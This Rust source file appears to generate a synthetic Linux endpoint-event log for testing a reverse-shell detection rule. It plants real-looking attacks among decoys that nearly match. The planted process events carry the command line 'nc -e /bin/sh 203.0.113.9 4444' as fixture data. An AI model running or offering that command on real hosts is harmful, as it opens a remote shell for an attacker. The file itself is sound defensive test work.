//! The log of a day on Linux hosts, with reverse shells among its events and what only nearly is one.

use crate::project::Outcome;
use detector_tests::endpoint_events::{Fleet, ndjson};
use std::fmt::Write;
use std::path::Path;

const EVENTS: usize = 200_000;
const SEED: u64 = 1;

/// So many of each kind.
const ATTACKS: usize = 20;

/// Lines between the two events of an attack, which are 2 ms apart on average: within the rule's second, and far behind it.
const SOON: usize = 50;
const LATE: usize = 2_000;

/// What is planted, one of each kind in turn.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    ReverseShell,
    TooLate,
    ToTheHostItself,
    OfAnotherProcess,
    WithoutShell,
}

const KINDS: [Kind; 5] = [Kind::ReverseShell, Kind::TooLate, Kind::ToTheHostItself, Kind::OfAnotherProcess, Kind::WithoutShell];

/// Writes the log, unless it is there; how many reverse shells are in it.
pub(super) fn write(path: &Path) -> Outcome<usize> {
    let events = ndjson(Fleet::Linux, EVENTS, SEED);
    let lines: Vec<&str> = events.lines().collect();
    // Behind which line, and what.
    let mut planted: Vec<(usize, String)> = Vec::new();
    let distance = (EVENTS - LATE) / (ATTACKS * KINDS.len() + 1);
    for number in 0..ATTACKS * KINDS.len() {
        let kind = KINDS[number % KINDS.len()];
        let at = (number + 1) * distance;
        let then = at + if kind == Kind::TooLate { LATE } else { SOON };
        planted.push((at, start(time(lines[at]), number, kind)));
        planted.push((then, connection(time(lines[then]), number, kind)));
    }
    planted.sort();
    let mut planted = planted.into_iter().peekable();
    let mut log = String::with_capacity(events.len() + (1 << 20));
    for (number, line) in lines.iter().enumerate() {
        let _ = writeln!(log, "{line}");
        while let Some((_, document)) = planted.next_if(|(at, _)| *at == number) {
            let _ = writeln!(log, "{document}");
        }
    }
    std::fs::write(path, log)?;
    Ok(ATTACKS)
}

/// The time of a line, with which its documents begin.
fn time(line: &str) -> &str {
    line.split('"').nth(3).unwrap_or_default()
}

fn start(at: &str, number: usize, kind: Kind) -> String {
    let args = if kind == Kind::WithoutShell {
        r#"["nc","-v","-z","203.0.113.9","4444"]"#
    } else {
        r#"["nc","-e","/bin/sh","203.0.113.9","4444"]"#
    };
    format!(
        r#"{{"@timestamp":"{at}",{},"process":{{"parent":{{"name":"bash","executable":"/usr/bin/bash"}},"args":{args},"args_count":5,{}}},"event":{{"action":"exec","category":["process"],"type":["start"]}}}}"#,
        host(number),
        process(number, "")
    )
}

fn connection(at: &str, number: usize, kind: Kind) -> String {
    let address = if kind == Kind::ToTheHostItself { "127.0.0.1" } else { "203.0.113.9" };
    let other = if kind == Kind::OfAnotherProcess { "other" } else { "" };
    format!(
        r#"{{"@timestamp":"{at}",{},"process":{{{}}},"destination":{{"address":"{address}","ip":"{address}","port":4444}},"event":{{"action":"connection_attempted","category":["network"],"type":["start"]}}}}"#,
        host(number),
        process(number, other)
    )
}

fn host(number: usize) -> String {
    format!(r#""host":{{"id":"attacked-{}","name":"attacked","os":{{"type":"linux"}}}}"#, number % 7)
}

fn process(number: usize, other: &str) -> String {
    format!(r#""name":"nc","executable":"/usr/bin/nc","pid":{},"entity_id":"planted-{number}{other}""#, 4_000 + number)
}
